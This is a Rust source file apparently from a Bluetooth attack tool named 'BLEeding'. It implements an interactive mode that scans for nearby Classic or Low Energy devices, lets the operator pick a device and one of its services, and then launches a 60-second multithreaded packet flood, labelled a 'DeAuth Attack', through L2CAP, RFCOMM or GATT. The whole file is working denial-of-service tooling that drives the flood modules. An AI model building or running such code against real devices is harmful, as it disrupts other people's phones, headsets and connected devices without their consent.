//! Interactive mode: scan, pick a device, pick a service, attack for 60s

use crate::attack::{
    ClassicFlood, GattFlood, DEFAULT_L2CAP_PSM, DEFAULT_PAYLOAD_SIZE, DEFAULT_RFCOMM_CHANNEL,
};
use crate::bluetooth::{
    enumerate_services, open_adapter, scan, RadioMode, ServiceProtocol, ServiceRecord,
    SCAN_DURATION,
};
use crate::commands::launch;
use crate::display;
use anyhow::Result;
use bleeding_core::pool::default_threads;
use bleeding_core::{Logger, Protocol, Target};
use colored::Color;
use std::process::ExitCode;
use std::time::Duration;
use tokio::io::{self, AsyncBufReadExt, AsyncRead, BufReader, Lines, Stdin};

/// Fixed length of an interactive attack
pub const ATTACK_DURATION: Duration = Duration::from_secs(60);

/// A parsed menu answer
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Selection {
    Exit,
    /// Zero-based index into the menu
    Pick(usize),
    OutOfRange,
    NotANumber,
}

/// Menu numbers are one-based; `0` exits
pub fn parse_selection(input: &str, len: usize) -> Selection {
    match input.trim().parse::<usize>() {
        Ok(0) => Selection::Exit,
        Ok(n) if n <= len => Selection::Pick(n - 1),
        Ok(_) => Selection::OutOfRange,
        Err(_) => Selection::NotANumber,
    }
}

/// Line-oriented menu prompt
pub struct Prompt<R> {
    lines: Lines<BufReader<R>>,
}

impl Prompt<Stdin> {
    pub fn stdin() -> Self {
        Self::new(io::stdin())
    }
}

impl<R: AsyncRead + Unpin> Prompt<R> {
    pub fn new(reader: R) -> Self {
        Self {
            lines: BufReader::new(reader).lines(),
        }
    }

    /// Show a numbered menu until a valid choice is made
    ///
    /// Returns `None` on `0`, end of input or Ctrl-C.
    pub async fn select(
        &mut self,
        logger: &Logger,
        labels: &[String],
        item_type: &str,
    ) -> Result<Option<usize>> {
        if labels.is_empty() {
            return Ok(None);
        }

        logger.line(logger.notice(format!("Available {item_type}s:")));
        for (idx, label) in labels.iter().enumerate() {
            logger.line(format!("  {} {}", logger.dim(format!("[{}]", idx + 1)), label));
        }
        logger.line(format!("  {} {}", logger.dim("[0]"), logger.bad("Exit")));

        loop {
            logger.line("");
            logger.line(logger.accent(format!(
                "Select {item_type} [0-{}]:",
                labels.len()
            )));

            let line = tokio::select! {
                line = self.lines.next_line() => line?,
                _ = tokio::signal::ctrl_c() => {
                    logger.line(logger.bad("Cancelled by user."));
                    return Ok(None);
                }
            };
            let Some(line) = line else {
                return Ok(None);
            };

            match parse_selection(&line, labels.len()) {
                Selection::Exit => return Ok(None),
                Selection::Pick(idx) => return Ok(Some(idx)),
                Selection::OutOfRange => logger.line(logger.bad("Invalid selection. Try again.")),
                Selection::NotANumber => logger.line(logger.bad("Please enter a valid number.")),
            }
        }
    }
}

/// Protocol and port to attack a classic service with
///
/// L2CAP services without a known PSM fall back to the default PSM; RFCOMM
/// services fall back to the default channel.
pub fn attack_parameters(service: &ServiceRecord) -> (Protocol, u16) {
    match service.protocol {
        ServiceProtocol::Classic(Protocol::ConnectionOriented) => (
            Protocol::ConnectionOriented,
            service.port.unwrap_or(DEFAULT_L2CAP_PSM),
        ),
        ServiceProtocol::Classic(Protocol::Stream) => (
            Protocol::Stream,
            service.port.unwrap_or(u16::from(DEFAULT_RFCOMM_CHANNEL)),
        ),
        ServiceProtocol::Gatt => (Protocol::default(), 0),
    }
}

pub async fn run(mode: RadioMode, logger: &Logger) -> Result<ExitCode> {
    logger.info(format!("Starting BLEeding with Interactive Mode ({mode})"));
    logger.line("");

    let adapter = open_adapter().await?;
    let mut prompt = Prompt::stdin();

    display::print_bordered(logger, &format!("Scanning for {mode} devices..."), Color::Cyan);
    logger.line("");
    let devices = scan(&adapter, mode, SCAN_DURATION).await?;
    if devices.is_empty() {
        logger.err("No devices found!");
        return Ok(ExitCode::SUCCESS);
    }

    let labels: Vec<String> = devices
        .iter()
        .map(|d| display::device_choice(logger, d))
        .collect();
    let Some(idx) = prompt.select(logger, &labels, "device").await? else {
        logger.info("Exiting interactive mode...");
        return Ok(ExitCode::SUCCESS);
    };
    let device = &devices[idx];
    logger.line(format!(
        "{} {} ({})",
        logger.paint("✓ Selected device:", Color::Green),
        logger.good(&device.name),
        logger.accent(device.address)
    ));

    logger.line("");
    display::print_bordered(logger, "Enumerating services...", Color::Cyan);
    logger.line("");
    let services = match enumerate_services(&adapter, device.address, mode, logger).await {
        Ok(services) => services,
        Err(e) => {
            logger.err(format!("Failed to enumerate services: {e:#}"));
            Vec::new()
        }
    };
    if services.is_empty() {
        logger.err("No services found!");
        return Ok(ExitCode::SUCCESS);
    }

    let labels: Vec<String> = services
        .iter()
        .map(|s| display::service_choice(logger, s))
        .collect();
    let Some(idx) = prompt.select(logger, &labels, "service").await? else {
        logger.info("Exiting interactive mode...");
        return Ok(ExitCode::SUCCESS);
    };
    let service = &services[idx];
    logger.line(format!(
        "{} {}",
        logger.paint("✓ Selected service:", Color::Green),
        logger.good(&service.name)
    ));
    if let Some(port) = service.port {
        logger.line(format!("  {} {}", logger.dim("Port:"), logger.notice(port)));
    }
    logger.line(format!(
        "  {} {}",
        logger.dim("Protocol:"),
        logger.accent(service.protocol)
    ));

    logger.line("");
    display::print_bordered(
        logger,
        &format!("Starting DeAuth Attack ({}s)...", ATTACK_DURATION.as_secs()),
        Color::Red,
    );

    let threads = default_threads();
    let (protocol, port) = attack_parameters(service);
    let target = Target::new(
        device.address.to_string(),
        port,
        protocol,
        DEFAULT_PAYLOAD_SIZE,
    )?;

    let mut rows = vec![
        ("Target", format!("{} ({})", device.address, device.name)),
        ("Service", service.name.clone()),
    ];
    if mode == RadioMode::Classic {
        rows.push(("Port", port.to_string()));
        rows.push(("Protocol", protocol.to_string()));
    }
    rows.push(("Packet size", DEFAULT_PAYLOAD_SIZE.to_string()));
    rows.push(("Threads", threads.to_string()));
    rows.push(("Duration", format!("{} seconds", ATTACK_DURATION.as_secs())));
    display::print_parameters(logger, "", &rows);

    let code = match mode {
        RadioMode::LowEnergy => {
            let job = GattFlood::new(adapter, &target)?;
            launch(job, target, threads, Some(ATTACK_DURATION), logger).await?
        }
        RadioMode::Classic => {
            let job = ClassicFlood::new(&target)?;
            launch(job, target, threads, Some(ATTACK_DURATION), logger).await?
        }
    };

    logger.line("");
    logger.line(logger.paint("✓ Attack completed!", Color::Green));
    logger.line("");
    Ok(code)
}
